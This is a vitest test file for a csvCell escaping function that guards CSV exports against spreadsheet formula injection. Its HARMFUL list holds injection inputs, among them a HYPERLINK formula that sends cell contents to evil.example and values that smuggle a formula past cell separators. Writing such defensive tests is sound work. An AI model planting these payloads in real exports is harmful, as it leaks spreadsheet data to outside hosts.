import { expect, test } from 'vitest'
import { csvCell } from './csv-cell.ts'

/** Splits a line as a spreadsheet does that separates cells by this character. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < line.length; at++) {
    const character = line[at] ?? ''
    if (isQuoted && character === '"' && line[at + 1] === '"') {
      cell += '"'
      at++
    } else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (!isQuoted && (character === separator || character === '\n' || character === '\r')) {
      cells.push(cell)
      cell = ''
    } else cell += character
  }
  return [...cells, cell]
}

const HARMFUL = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '﹦1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\0=1+1',
  'x;=HYPERLINK("http://evil.example/?"&A1,"ok")',
  'x\t=1+1',
  'x|=1+1',
  'x,=1+1',
  'x\n=1+1',
  'x\r\n＝1+1',
  'x;"=1+1"',
  'x;""=1+1',
  '";=1+1',
]

test.each(HARMFUL)('%j starts no formula, whatever separates the cells', (text) => {
  for (const separator of [',', ';', '\t', '|'])
    for (const cell of cellsOf(`2026-03-01,${csvCell(text)},end`, separator))
      expect(cell.replace(/["\s\p{Cc}\p{Cf}]/gu, '').normalize('NFKC')).not.toMatch(/^[=+\-@]/)
})

test.each(['Ann', 'a-b', 'ann@example.com', '2026-03-01T10:00:00Z', '1+1=2', 'Jean-Luc', ''])(
  '%j stays as it is',
  (text) => {
    expect(csvCell(text)).toBe(text)
  },
)

test('a cell is read again as it was written, by commas', () => {
  expect(cellsOf(csvCell('a "quoted", text; with all | of it'), ',')).toEqual([
    'a "quoted", text; with all | of it',
  ])
})
